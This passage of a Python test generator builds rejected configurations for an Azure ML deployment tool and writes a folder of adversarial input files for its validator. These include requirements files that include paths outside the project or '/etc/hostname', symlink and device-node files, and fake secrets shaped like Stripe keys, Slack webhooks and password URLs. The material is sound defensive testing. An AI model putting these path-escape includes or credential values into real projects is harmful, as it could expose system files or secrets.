                              ("edge", "myapp:dbPassword", "hunter2hunter2"),
                              ("local", "myapp:database", {"url": "postgres://admin:hunter2@db.example.com/x"})):
        yield case(f"{stack}-{key.replace(':', '-')}-plain", stack, lambda c, k=key, v=value: c.update({k: v}),
                   key, "plain text")
    # -- one host name for two services of different targets (an AKS hostName, a container app's domain) --
    yield case("prod-container-app-domain-is-aks-host-name", "prod",
               lambda c: c[s].update(web={"target": "containerapp", "image": "diabetes", "minReplicas": 1,
                                          "customDomain": "diabetes.ml.contoso.com"}),
               f"{s}.web.customDomain", "is also service 'diabetes'")
    # -- an image's pythonVersion: only for the default slim base image, and a Python the scorer runs on --
    def requirements(**values: Any) -> Callable[[dict], None]:
        def edit(c: dict) -> None:
            c[img]["diabetes"].pop("condaFile")
            c[img]["diabetes"].update(requirementsFile="hostile/requirements.txt", **values)
        return edit
    yield case("dev-python-version-beside-base-image", "dev",
               requirements(baseImage="python:3.12-slim", pythonVersion="3.10"), f"{img}.diabetes", "baseImage")
    for version in ("3.8", "3.14", "3.7"):
        yield case(f"dev-python-version-{version}", "dev", requirements(pythonVersion=version),
                   f"{img}.diabetes", "scorer host runs on Python")
    # -- an at-scale edge deployment's targetCondition that names no device field (matches no device) --
    for label, condition in (("bare-name", "environment='edge'"), ("no-tags-prefix", "model = 'diabetes' AND site = 'x'"),
                             ("lookalike-prefix", "mytags.environment='edge'")):
        yield case(f"edge-target-condition-{label}", "edge", lambda c, v=condition: c[e]["clinics"].update(targetCondition=v),
                   f"{e}.clinics.targetCondition", "names no device field")
    for label, regions in (("same", ["eastus", "westus2", "eastus"]), ("display-name", ["eastus", "East US"])):
        yield case(f"fpga-regions-twice-{label}", "fpga", lambda c, v=regions: c[s]["diabetes-fpga"].update(fpgaRegions=v),
                   f"{s}.diabetes-fpga.fpgaRegions", "listed twice")


def corpus5_cases() -> Iterator[Case]:
    """More of issue 24's kinds (helper `h24bad`): each exited 0 before its rule (probed with `synth` on
    copies of the example stacks); each names the key it breaks."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, b, img = "mldeploy:services", "mldeploy:edge", "mldeploy:batch", "mldeploy:images"
    tls = {"certificate": {"secure": "v1:AAAAAAAAAAAAAAAA:Y2VydA=="}, "key": {"secure": "v1:AAAAAAAAAAAAAAAA:a2V5"}}
    # -- a name written twice in a value given as JSON text (as the Pulumi CLI stores objects) ---------
    yield case("local-tags-json-name-twice", "local",
               lambda c: c.update({"mldeploy:tags": '{"environment": "a", "environment": "b"}'}),
               "mldeploy:tags", "written twice")
    yield case("local-services-json-name-twice", "local", lambda c: c.update({s: (
        '{"diabetes": {"target": "local", "image": "diabetes", "port": 8890},'
        ' "diabetes": {"target": "local", "image": "diabetes", "port": 8891}}')}), s, "written twice")
    # -- one origin twice: with and without its scheme's default port ---------------------------------
    yield case("dev-cors-default-port-twice", "dev", lambda c: c[s]["diabetes-aci"].update(
        cors={"allowedOrigins": ["https://app.example.com", "https://app.example.com:443"]}),
        f"{s}.diabetes-aci.cors.allowedOrigins", "listed twice")
    # -- createOptions keys Docker reads without case: one key twice, or one mldeploy checks, in another case --
    for label, options, fragment in (
            ("host-config-lower", {"hostConfig": {"PortBindings": {"5001/tcp": [{"HostPort": "8883"}]}}}, "'HostConfig'"),
            ("env-lower", {"env": ["LOG_LEVEL=debug"]}, "'Env'"),
            ("port-bindings-lower", {"HostConfig": {"portBindings": {"5001/tcp": [{"HostPort": "8883"}]}}}, "'PortBindings'"),
            ("labels-twice", {"Labels": {"a": "b"}, "LABELS": {"c": "d"}}, "one key for Docker")):
        yield case(f"edge-create-options-{label}", "edge", lambda c, v=options: c[e]["clinics"].update(createOptions=v),
                   f"{e}.clinics.createOptions", fragment)
    # -- Azure's names: tag prefixes ARM reserves, reserved words in names with a public endpoint --------
    for tag in ("microsoft.owner", "Azure-team", "windowsVersion"):
        yield case(f"dev-tag-reserved-prefix-{tag}", "dev", lambda c, v=tag: c["mldeploy:tags"].update({v: "x"}),
                   "mldeploy:tags", "reserves for Azure")
    for label in ("microsoft-scoring", "scoring-windows"):
        yield case(f"prod-dns-label-{label}", "prod", lambda c, v=label: c[s]["diabetes"].update(dnsLabel=v),
                   f"{s}.diabetes.dnsLabel", "ReservedResourceName")
    for label in ("login-scoring", "azure", "xbox"):
        yield case(f"dev-aci-dns-name-label-{label}", "dev", lambda c, v=label: c[s]["diabetes-aci"].update(dnsNameLabel=v),
                   f"{s}.diabetes-aci.dnsNameLabel", "ReservedResourceName")
    yield case("dev-aci-derived-label-windows", "dev", lambda c: c[s].update({"windows-aci": c[s].pop("diabetes-aci")}),
               f"{s}.windows-aci", "derived from the service")
    yield case("managed-endpoint-name-windows", "managed", lambda c: c[s]["diabetes"].update(endpointName="windows-ep"),
               f"{s}.diabetes.endpointName", "ReservedResourceName")
    yield case("managed-derived-endpoint-name-microsoft", "managed",
               lambda c: c[s].update({"microsoft-ml": c[s].pop("diabetes")}), f"{s}.microsoft-ml", "derived from the entry")
    yield case("k8s-endpoint-name-xbox", "kubernetes-endpoint", lambda c: c[s]["diabetes"].update(endpointName="xbox"),
               f"{s}.diabetes.endpointName", "reserved word")
    yield case("batch-derived-endpoint-name-login", "batch", lambda c: c[b].update({"login-nightly": c[b].pop("nightly")}),
               f"{b}.login-nightly", "starts with 'login'")
    yield case("edge-hub-name-microsoft", "edge", lambda c: c[e]["clinics"]["iotHub"].update(name="microsoft-hub"),
               f"{e}.clinics.iotHub.name", "ReservedResourceName")
    yield case("containerapp-name-windows", "containerapp", lambda c: c[s].update({"windows-app": c[s].pop("diabetes-aca")}),
               f"{s}.windows-app", "ReservedResourceName")
    for label, cname in (("dots", ".."), ("leading-hyphen", "-ml.contoso.com"), ("underscore", "ml_router.contoso.com")):
        yield case(f"k8s-endpoint-ssl-cname-{label}", "kubernetes-endpoint",
                   lambda c, v=cname: c[s]["diabetes"].update(sslCname=v, tls=tls), f"{s}.diabetes.sslCname", "host name")
    # -- file contents: a sample request the gateway's own body limit refuses ----------------------------
    yield case("dev-aci-sample-over-body-limit", "dev",
               lambda c: (c[img]["diabetes"].update(sampleRequest="hostile/sample-3k.json"),
                          c[s]["diabetes-aci"].update(maxRequestBodyMb=0.001)),
               f"{s}.diabetes-aci.maxRequestBodyMb", "413")
    yield case("prod-sample-over-body-limit", "prod",
               lambda c: c[s]["diabetes"].update(sampleRequest="hostile/sample-3k.json", maxRequestBodyMb=0.002),
               f"{s}.diabetes.maxRequestBodyMb", "413")
    yield case("local-sample-over-body-limit", "local",
               lambda c: c[s]["diabetes"].update(sampleRequest="hostile/sample-3k.json", maxRequestBodyMb=0.001),
               f"{s}.diabetes.maxRequestBodyMb", "413")
    yield case("containerapp-sample-over-body-limit", "containerapp",
               lambda c: c[s]["diabetes-aca"].update(sampleRequest="hostile/sample-3k.json", maxRequestBodyMb=0.001),
               f"{s}.diabetes-aca.maxRequestBodyMb", "413")
    # -- a batch job's base image without conda (Azure ML builds its environment with conda) -------------
    for base in ("python:3.11-slim", "docker.io/library/ubuntu:22.04", "gcr.io/distroless/python3-debian12"):
        yield case(f"batch-base-image-no-conda-{base.split('/')[-1].split(':')[0]}", "batch",
                   lambda c, v=base: c[b]["nightly"].update(baseImage=v), f"{b}.nightly.baseImage", "no conda")
    # -- keys of another mode: an image only v2 endpoints use (Azure ML builds it), an attached cluster ---
    # An Azure ML base image (conda, no micromamba) on a conda image mldeploy builds itself (plan/stack.py).
    yield case("dev-image-azureml-base-conda", "dev", lambda c: c[img]["diabetes"].update(
        baseImage="mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04:20260715.v1"), f"{img}.diabetes.baseImage",
        "installs its condaFile with micromamba")
    yield case("managed-image-base-image", "managed", lambda c: c[img]["diabetes"].update(baseImage="python:3.11-slim"),
               f"{img}.diabetes.baseImage", "Azure ML builds")
    yield case("k8s-endpoint-image-base-image", "kubernetes-endpoint",
               lambda c: c[img]["diabetes"].update(baseImage="mambaorg/micromamba:1.5.8"), f"{img}.diabetes.baseImage",
               "Azure ML builds")
    yield case("managed-image-python-version", "managed", lambda c: (
        c[img]["diabetes"].pop("condaFile"),
        c[img]["diabetes"].update(requirementsFile="hostile/requirements.txt", pythonVersion="3.12")),
        f"{img}.diabetes.pythonVersion", "would be dropped")
    yield case("prod-attach-vcpus-per-node", "prod-attach",
               lambda c: c["mldeploy:clusters"]["shared"].update(vcpusPerNode=8), "mldeploy:clusters.shared",
               "vcpusPerNode applies only to a created cluster")
    # -- a batch job's pythonVersion outside the Pythons its conda file may pin ------------------------
    for version in ("3.8", "3.14"):
        yield case(f"batch-python-version-{version}", "batch", lambda c, v=version: (
            c[b]["nightly"].pop("condaFile"),
            c[b]["nightly"].update(requirementsFile="hostile/requirements.txt", pythonVersion=v)),
            f"{b}.nightly", f"pythonVersion {version}")
    # -- a pod's memory (scorer + gateway + collector sidecars) above its node's (helper `h24mem`) ----
    # prod: Standard_D3_v2 nodes, 14 GiB (dv2-series.md); collectModelData is on (128 MiB + 128 MiB).
    yield case("prod-pod-memory-larger-than-node", "prod", lambda c: c[s]["diabetes"].update(memoryGb=64),
               f"{s}.diabetes.memoryGb", "never be scheduled")
    yield case("prod-pod-memory-sidecars-over-node", "prod", lambda c: c[s]["diabetes"].update(memoryGb=13.8),
               f"{s}.diabetes.memoryGb", "the model-data collector's 128 MiB")
    yield case("prod-pod-memory-whole-node", "prod", lambda c: (
        c["mldeploy:clusters"]["prod"].update(vmSize="standard_d4s_v5"), c[s]["diabetes"].update(memoryGb=16)),
        f"{s}.diabetes.memoryGb", "16 GiB")
    yield case("k8s-endpoint-instance-memory-larger-than-node", "kubernetes-endpoint",
               lambda c: c[s]["diabetes"]["deployments"]["blue"].update(memoryGb=32),
               f"{s}.diabetes.deployments.blue.memoryGb", "never be scheduled")


def cross_cases() -> Iterator[Case]:
    """Issue 24's kinds (helper `h24cross`): values that clash across entries, keys of another mode,
    secrets in plain text, file contents. Each exited 0 before its rule (probed with `synth` on copies
    of the example stacks); each names the key it breaks."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, b = "mldeploy:services", "mldeploy:edge", "mldeploy:batch"

    def existing_hubs(first_group: str | None, second_group: str) -> Callable[[dict], None]:
        def edit(c: dict) -> None:
            hub = c[e]["clinics"]["iotHub"]
            hub.pop("sku")
            hub.update(existing=True, **({"resourceGroup": first_group} if first_group else {}))
            c[e]["wards"] = {**c[e]["clinics"], "targetCondition": "tags.ward='a'",
                             "iotHub": {"name": hub["name"], "existing": True, "resourceGroup": second_group}}
        return edit

    # -- a pod's CPU: the model-data collector's 0.1 counts too (D3_v2: 4 vCPUs; 3.7 + 0.25 + 0.1 > 4) --
    yield case("prod-pod-cpu-with-collector-over-node", "prod", lambda c: c[s]["diabetes"].update(cpuCores=3.7),
               f"{s}.diabetes.cpuCores", "the model-data collector's 0.1")
    # -- under a node's 4 vCPUs but over its allocatable 3.86 (AKS's kube-reserved 140m) -----------------
    yield case("prod-pod-cpu-over-allocatable", "prod", lambda c: c[s]["diabetes"].update(cpuCores=3.55),
               f"{s}.diabetes.cpuCores", "kube-reserved 140m = 3.86 CPUs")
    # -- one existing hub (a global name) looked up in two resource groups --------------------------------
    yield case("edge-existing-hub-two-groups", "edge", existing_hubs("rg-iot-a", "rg-iot-b"),
               f"{e}.wards.iotHub.resourceGroup", "hub names are global")
    yield case("edge-existing-hub-stack-group-and-another", "edge", existing_hubs(None, "rg-iot-b"),
               f"{e}.wards.iotHub.resourceGroup", "'rg-mldeploy-edge'")
    # -- file contents: a batch conda file without azureml-core (the executor imports it) ---------------
    yield case("batch-conda-without-azureml-core", "batch",
               lambda c: c[b]["nightly"].update(condaFile="examples/diabetes/myenv.yml"),
               f"{b}.nightly.condaFile", "azureml-core")
    # -- file contents: a v2 endpoint's environment (Azure ML builds it as it is) without the server ---------
    yield case("managed-conda-without-inference-server", "managed",
               lambda c: c["mldeploy:images"]["diabetes-v2"].update(condaFile="examples/diabetes/batch-env.yml"),
               "mldeploy:images.diabetes-v2.condaFile", "azureml-inference-server-http is missing")
    yield case("k8s-endpoint-conda-without-inference-server", "kubernetes-endpoint",
               lambda c: c["mldeploy:images"]["diabetes"].update(condaFile="examples/diabetes/batch-env.yml"),
               "mldeploy:images.diabetes.condaFile", "azureml-inference-server-http is missing")
    # -- environment variables the scoring image relies on, replaced ------------------------------------
    for name in ("PATH", "PYTHONHOME", "MAMBA_ROOT_PREFIX", "AML_APP_ROOT"):
        yield case(f"edge-env-image-{name.lower()}", "edge", lambda c, n=name: c[e]["clinics"]["env"].update({n: "/x"}),
                   f"{e}.clinics.env", "scoring image's own")
    yield case("managed-env-image-path", "managed", lambda c: c[s]["diabetes"]["deployments"]["blue"].update(
        environmentVariables={"PATH": "/usr/bin"}), f"{s}.diabetes.deployments.blue.environmentVariables",
        "scoring image's own")
    yield case("k8s-endpoint-env-image-mamba-user", "kubernetes-endpoint",
               lambda c: c[s]["diabetes"]["deployments"]["green"].update(environmentVariables={"MAMBA_USER": "root"}),
               f"{s}.diabetes.deployments.green.environmentVariables", "scoring image's own")
    yield case("edge-create-options-env-path", "edge", lambda c: (
        c[e]["clinics"].pop("env"), c[e]["clinics"].update(createOptions={"Env": ["PATH=/usr/bin"]})),
        f"{e}.clinics.createOptions", "scoring image's own")
    # -- Kubernetes namespaces: the Azure ML extension's `azureml` on a cluster a kubernetes-endpoint uses --
    yield case("k8s-endpoint-aks-in-extension-namespace", "kubernetes-endpoint", lambda c: (
        c[s]["diabetes"].update(namespace="scoring"),
        c[s].update(web={"target": "aks", "cluster": "inference", "image": "diabetes", "namespace": "azureml"})),
        f"{s}.web.namespace", "Azure ML extension")
    yield case("k8s-endpoint-aks-named-azureml", "kubernetes-endpoint", lambda c: (
        c[s]["diabetes"].update(namespace="scoring"),
        c[s].update(azureml={"target": "aks", "cluster": "inference", "image": "diabetes"})),
        f"{s}.azureml", "Azure ML extension")
    # -- keys of another mode: autoscaleMinReplicas beside numReplicas with autoscaling off --------------
    yield case("fpga-min-replicas-beside-num-replicas", "fpga",
               lambda c: c[s]["diabetes-fpga"].update(autoscaleMinReplicas=2), f"{s}.diabetes-fpga", "would be ignored")
    yield case("prod-attach-min-replicas-beside-num-replicas", "prod-attach", lambda c: (
        c[s]["diabetes"].update(autoscaleEnabled=False, numReplicas=3),
        [c[s]["diabetes"].pop(k) for k in ("autoscaleMaxReplicas", "autoscaleTargetUtilization")]),
        f"{s}.diabetes", "would be ignored")
    # -- one DNS name for a kubernetes-endpoint router and an AKS service ----------------------------------
    router_tls = {"certificate": {"secure": "v1:AAAAAAAAAAAAAAAA:Y2VydA=="}, "key": {"secure": "v1:AAAAAAAAAAAAAAAA:a2V5"}}
    yield case("k8s-endpoint-ssl-cname-is-aks-host-name", "kubernetes-endpoint", lambda c: (
        c[s]["diabetes"].update(sslCname="ml.contoso.com", tls=router_tls),
        c[s].update(web={"target": "aks", "cluster": "inference", "image": "diabetes", "namespace": "web",
                         "hostName": "ml.contoso.com"})),
        f"{s}.diabetes.sslCname", "one name reaches one service")
    # -- one secret as an auth key and the TLS certificate or key --------------------------------------------
    yield case("prod-attach-key-is-tls-certificate", "prod-attach", lambda c: c[s]["diabetes"].update(keys={
        "primary": c[s]["diabetes"]["tls"]["certificate"], "secondary": {"secure": "v1:AAAAAAAAAAAAAAAA:c2Vjb25kYXJ5LWtleQ=="}}),
        f"{s}.diabetes", "keys.primary and tls.certificate are the same secret")
    yield case("prod-attach-key-is-tls-key", "prod-attach", lambda c: c[s]["diabetes"].update(keys={
        "primary": {"secure": "v1:AAAAAAAAAAAAAAAA:cHJpbWFyeS1rZXk="}, "secondary": c[s]["diabetes"]["tls"]["key"]}),
        f"{s}.diabetes", "keys.secondary and tls.key are the same secret")
    # -- two third-party images copied to one repository:tag of the workspace registry ------------------
    def second_service(**extra: Any) -> Callable[[dict], None]:
        return lambda c: c[s].update(other={**c[s]["diabetes"], "namespace": "other", **extra})
    yield case("prod-attach-gateway-from-other-registry-same-tag", "prod-attach",
               second_service(gatewayImage="mycorp.azurecr.io/nginx:1.27.4-alpine"),
               f"{s}.other.gatewayImage", "one repository:tag holds one image")
    yield case("prod-attach-gateway-other-digest-same-tag", "prod-attach",
               second_service(gatewayImage="nginx:1.27.4-alpine@sha256:" + "a" * 64),
               f"{s}.other.gatewayImage", "mirror/nginx:1.27.4-alpine")
    yield case("prod-collector-image-as-gateway-tag", "prod",
               lambda c: c[s]["diabetes"].update(collectorImage="mycorp.azurecr.io/nginx:1.27.4-alpine"),
               f"{s}.diabetes.collectorImage", "one repository:tag holds one image")
    # An FPGA service (an AKS service on its own pool) copies its gateway as AKS does: one rule for every target.
    yield case("fpga-gateway-from-other-registry-same-tag", "fpga", lambda c: c[s].update(other={
        "target": "aci", "image": "diabetes", "sampleRequest": "examples/diabetes/sample-request.json"},
        **{"diabetes-fpga": {**c[s]["diabetes-fpga"], "gatewayImage": "mycorp.azurecr.io/nginx:1.27.4-alpine"}}),
               f"{s}.diabetes-fpga.gatewayImage", "one repository:tag holds one image")
    # -- secrets under names that say so: .NET connection strings, HTTP Basic, HMAC keys ----------------
    for name, value in (("ConnectionStrings__Default", "Server=db;Database=scores"), ("BASIC_AUTH", "scorer:hunter2"),
                        ("WEBHOOK_HMAC_KEY", "abc123")):
        yield case(f"edge-env-secret-{name.lower()}", "edge", lambda c, n=name, v=value: c[e]["clinics"]["env"].update({n: v}),
                   f"{e}.clinics.env", "password, key or token")
    # -- credentials by their shape under neutral names: other connection-string forms, URL queries,
    #    webhook URLs, more vendors' key formats ---------------------------------------------------------
    for label, value in (
            ("redis", "cache.redis.cache.windows.net:6380,password=hunter2hunter2,ssl=True"),
            ("libpq", "host=db port=5432 dbname=scores user=scorer password=hunter2"),
            ("functions-key", "https://fn.azurewebsites.net/api/score?code=AbCdEf0123456789AbCdEf0123456789=="),
            ("access-token", "https://api.example.com/callback?access_token=abcdef0123456789"),
            ("api-key-query", "https://api.example.com/v1?format=json&api_key=abcdef0123456789"),
            ("slack-webhook", "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"),
            ("teams-webhook", "https://contoso.webhook.office.com/webhookb2/a@b/IncomingWebhook/0123abcd/c"),
            ("google-api-key", "AIzaSyA-1234567890abcdefghijklmnopqrstu"),
            ("stripe-key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
            ("sendgrid-key", "SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"),
            ("npm-token", "npm_abcdefghijklmnopqrstuvwxyz0123456789")):
        yield case(f"edge-env-secret-shape-{label}", "edge", lambda c, v=value: c[e]["clinics"]["env"].update(TARGET=v),
                   f"{e}.clinics.env", "password, key or token")
    yield case("managed-env-secret-shape-functions-key", "managed", lambda c: c[s]["diabetes"]["deployments"]["blue"].update(
        environmentVariables={"SCORING_HOOK": "https://fn.azurewebsites.net/api/hook?code=AbCdEf0123456789=="}),
        f"{s}.diabetes.deployments.blue.environmentVariables", "password, key or token")
    yield case("dev-tag-secret-shape-webhook", "dev", lambda c: c["mldeploy:tags"].update(
        alerts="https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"), "mldeploy:tags", "")


# Environment files whose pins exclude a version the scorer host was tested against (issue 22,
# mldeploy/scoring/environment.py): file -> (the scoringServer it applies to, the package, the
# piece of the message naming the user's pin). Every spec form: ==, a range, extras, a conda
# spec, names in another case or with `_`/`.` for `-`.
CONFLICTING_PINS = {
    "pins/granian-range.yml": ("mldeploy", "granian", "granian>=2.9"),
    "pins/granian-conda-spec.yml": ("mldeploy", "granian", "granian==2.9.*"),
    "pins/server-extras-case.txt": ("azmlinfsrv", "azureml-inference-server-http", "Azureml_Inference.Server-HTTP[x]==1.4.0"),
    "pins/server-below.txt": ("mldeploy", "azureml-inference-server-http", "azureml-inference-server-http<1.5"),
    "pins/granian-upper.txt": ("mldeploy", "granian", "GRANIAN!=2.8.7,>=2"),
}
PIN_FILES = {
    "pins/granian-range.yml": "name: x\ndependencies:\n  - python=3.11\n  - pip:\n      - granian>=2.9  # newer\n",
    "pins/granian-conda-spec.yml": "name: x\ndependencies:\n  - python=3.11\n  - conda-forge::granian=2.9\n",
    "pins/server-extras-case.txt": "numpy\nAzureml_Inference.Server-HTTP[x]==1.4.0\n",
    "pins/server-below.txt": "azureml-inference-server-http<1.5\nscikit-learn\n",
    "pins/granian-upper.txt": "GRANIAN!=2.8.7,>=2\n",
}


def scorer_pin_cases() -> Iterator[Case]:
    """A pin that excludes the scorer host's tested version: exit 2 naming the key, the file,
    the package and both versions (issue 22)."""
    from mldeploy.scoring.scorer_host import TESTED_VERSIONS

    for path, (server, package, pin) in CONFLICTING_PINS.items():
        d = _load("dev")
        image = d["config"]["mldeploy:images"]["diabetes"]
        image.pop("condaFile")
        image.update({"condaFile" if path.endswith(".yml") else "requirementsFile": path, "scoringServer": server})
        key = "condaFile" if path.endswith(".yml") else "requirementsFile"
        yield Case(f"dev-scorer-pin-{Path(path).stem}", "semantic", "dev", _dump(d), "mldeploy:images.diabetes",
                   f"{key}: {path}: {pin!r} excludes {package} {TESTED_VERSIONS[package]}")


# Requirements files whose includes (`-r`, `-c`) pip could not follow, or that leave the project:
# (case, the file the stack names, the expected fragment). Written by make_include_files.
INCLUDE_FILES = {
    "req-inc-escape.txt": "-r ../../outside/file.txt\n",
    "req-inc-link-out.txt": "-r link-out\n",
    "req-inc-absolute.txt": "numpy\n-r /etc/hostname\n",
    "req-inc-url.txt": "-r https://example.com/requirements.txt\n",
    "req-inc-var.txt": "-r ${REQS_DIR}/base.txt\n",
    "req-inc-none.txt": "-r\n",
    "req-inc-folder.txt": "-r empty-folder\n",
    "req-inc-cycle-a.txt": "numpy\n-r req-inc-cycle-b.txt\n",
    "req-inc-cycle-b.txt": "-c req-inc-cycle-a.txt\n",
    "req-inc-self.txt": "--requirement=req-inc-self.txt\n",
    "req-inc-nested-missing.txt": "-r req-include.txt\n",
    "req-inc-constraint-missing.txt": "numpy\n-c constraints.txt\n",
    "req-inc-creds.txt": "-r req-creds.txt\n",
    "req-inc-not-req.txt": "-r score.txt\n",
    "req-inc-local.txt": "-r req-local.txt\n",
    "req-inc-constraints.txt": "azureml-inference-server-http==1.5.1\n-c req-inc-pins.txt\n",
    "req-inc-pins.txt": "numpy<3\n",
    "req-inc-scorer-pin.txt": "-r req-inc-scorer-pin-base.txt\n",
    "req-inc-scorer-pin-base.txt": "numpy\ngranian==2.8.6\n",
    "req-inc-scorer-constraint.txt": "numpy\n-c req-inc-scorer-constraint-pins.txt\n",
    "req-inc-scorer-constraint-pins.txt": "azureml-inference-server-http<1.5\n",
}
INCLUDE_CASES = (
    ("escape", "req-inc-escape.txt", "req-inc-escape.txt: line 1: '-r ../../outside/file.txt' includes a file outside the project root"),
    ("link-out", "req-inc-link-out.txt", "includes a file outside the project root"),
    ("absolute", "req-inc-absolute.txt", "req-inc-absolute.txt: line 2: '-r /etc/hostname' includes an absolute path"),
    ("url", "req-inc-url.txt", "includes a file that is not in the project"),
    ("env-var", "req-inc-var.txt", "includes a file that is not in the project"),
    ("no-path", "req-inc-none.txt", "names no file"),
    ("folder", "req-inc-folder.txt", "which is not a regular file"),
    ("cycle", "req-inc-cycle-a.txt", "hostile/req-inc-cycle-b.txt: line 1: '-c req-inc-cycle-a.txt' includes "
                                     "hostile/req-inc-cycle-a.txt, which includes hostile/req-inc-cycle-b.txt again"),
    ("self", "req-inc-self.txt", "includes hostile/req-inc-self.txt, which includes hostile/req-inc-self.txt again"),
    ("nested-missing", "req-inc-nested-missing.txt",
     "hostile/req-include.txt: line 1: '-r more-requirements.txt' includes hostile/more-requirements.txt, which does not exist"),
    ("constraint-missing", "req-inc-constraint-missing.txt", "includes hostile/constraints.txt, which does not exist"),
    ("included-password", "req-inc-creds.txt", "hostile/req-creds.txt: a URL with a user name and password"),
    ("included-not-requirement", "req-inc-not-req.txt", "hostile/score.txt: line 1: 'def init():' is not a requirement"),
    ("included-local-path", "req-inc-local.txt", "hostile/req-local.txt: line 1: './mylib' installs from a local path"),
    ("included-scorer-pin", "req-inc-scorer-pin.txt", "'granian==2.8.6' excludes granian"),
    ("constraint-scorer-pin", "req-inc-scorer-constraint.txt", "'azureml-inference-server-http<1.5' excludes"),
)


def include_cases() -> Iterator[Case]:
    """Requirements files with includes pip could not follow, or that leave the project; and a
    constraints file (`-c`) where Azure ML builds the environment from one conda file."""
    img = "mldeploy:images"

    def requirements(path: str) -> Callable[[dict], None]:
        def edit(c: dict) -> None:
            c[img]["diabetes"].pop("condaFile")
            c[img]["diabetes"]["requirementsFile"] = path
        return edit

    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str) -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    for label, path, fragment in INCLUDE_CASES:
        yield case(f"dev-requirements-include-{label}", "dev", requirements(f"hostile/{path}"),
                   f"{img}.diabetes.requirementsFile", fragment)
    yield case("managed-requirements-constraints", "managed", requirements("hostile/req-inc-constraints.txt"),
               f"{img}.diabetes.requirementsFile", "includes a constraints file (`-c`), but services.diabetes (managed)")
    yield case("batch-requirements-constraints", "batch",
               lambda c: (c["mldeploy:batch"]["nightly"].pop("condaFile"),
                          c["mldeploy:batch"]["nightly"].update(requirementsFile="hostile/req-inc-constraints.txt")),
               "mldeploy:batch.nightly.requirementsFile", "includes a constraints file (`-c`)")


CLASSES: dict[str, Callable[[], Iterator[Case]]] = {
    "encoding": encoding_cases, "file": file_cases, "yaml": yaml_cases, "duplicate": duplicate_cases,
    "alias": alias_cases, "depth": depth_cases, "namespace": namespace_cases, "unknown": unknown_cases,
    "type": type_cases, "injection": injection_cases, "secret": secret_cases, "path": path_cases,
    "semantic": lambda: (*semantic_cases(), *issue24_cases(), *corpus_cases(), *corpus2_cases(), *corpus3_cases(),
                                *corpus4_cases(), *corpus5_cases(), *cross_cases(), *scorer_pin_cases(),
                                *include_cases(), *names_cases(), *h24b_cases(),
                                *h24b_more_cases(), *hbad_cases(), *hbad2_cases()),
}


def all_cases() -> list[Case]:
    cases = [c for make in CLASSES.values() for c in make()]
    ids = [c.id for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


def make_hostile_files(project: Path, outside: Path) -> None:
    """The files the `path` class points at, inside a throwaway project."""
    hostile = project / "hostile"
    hostile.mkdir()
    outside.mkdir(exist_ok=True)
    (outside / "file.txt").write_text("outside\n")
    (hostile / "link-out").symlink_to(outside / "file.txt")
    import os

    os.mkfifo(hostile / "fifo")
    try:
        os.mknod(hostile / "device", 0o600 | 0o020000, os.makedev(1, 3))  # a /dev/null twin
    except OSError:  # no CAP_MKNOD: a link to /dev/null is a device too, and outside
        (hostile / "device").symlink_to("/dev/null")
    (hostile / "empty-folder").mkdir()
    (hostile / "folder-with-fifo").mkdir()
    os.mkfifo(hostile / "folder-with-fifo" / "pipe")
    (hostile / "binary.txt").write_bytes(b"numpy\x00\x01\x02")
    (hostile / "latin1.txt").write_bytes("scikit-learn # café\n".encode("latin-1"))
    (hostile / "invalid-conda.yml").write_text("name: x\ndependencies: [python\n")
    (hostile / "list.yml").write_text("- python\n- numpy\n")
    (hostile / "not-python.py").write_text("def init(:\n    pass\n")
    (hostile / "return-outside.py").write_text("def init():\n    pass\nreturn 1\n")
    (hostile / "not-json.json").write_text("{'data': [[1, 2, 3]]}\n")
    (hostile / "conda-bad-deps.yml").write_text("name: x\ndependencies:\n  - python=3.11\n  - pip: numpy\n")
    (hostile / "score.txt").write_text("def init():\n    pass\n\n\ndef run(data):\n    return data\n")
    (hostile / "empty.py").write_text("")
    (hostile / "no-run.py").write_text("def init():\n    pass\n")
    (hostile / "no-init.py").write_text("def run(data):\n    return data\n")
    (hostile / "req-include.txt").write_text("-r more-requirements.txt\nnumpy\n")
    (hostile / "req-creds.txt").write_text("--extra-index-url https://build:s3cretT0ken@pkgs.example.com/simple\nnumpy\n")
    (hostile / "conda-creds.yml").write_text("name: x\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n"
                                             "    - --extra-index-url https://build:s3cretT0ken@pkgs.example.com/simple\n"
                                             "    - azureml-inference-server-http\n")
    (hostile / "conda-no-python.yml").write_text("name: x\ndependencies:\n  - numpy\n  - pip:\n"
                                                 "    - azureml-inference-server-http\n")
    (hostile / "conda-py27.yml").write_text("name: x\ndependencies:\n  - python=2.7\n  - pip\n")
    (hostile / "req-pin-clash.txt").write_text("azureml-inference-server-http==1.5.1\nnumpy==2.4.6\nNumPy<2\n")
    (hostile / "conda-pip-clash.yml").write_text("name: x\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n"
                                                 "    - scikit-learn==1.9.1\n    - scikit_learn==1.5.2\n")
    (hostile / "conda-two-pythons.yml").write_text("name: x\ndependencies:\n  - python=3.11\n  - pip\n  - python=3.9\n")
    (hostile / "conda-py38.yml").write_text("name: x\ndependencies:\n  - conda-forge::python==3.8.*\n  - pip\n"
                                            "  - pip:\n    - azureml-core\n")
    (hostile / "model-empty.pkl").write_bytes(b"")
    (hostile / "null.json").write_text("null\n")
    (hostile / "run-noarg.py").write_text("def init():\n    pass\n\n\ndef run():\n    return 1\n")
    (hostile / "init-arg.py").write_text("def init(model):\n    pass\n\n\ndef run(data):\n    return data\n")
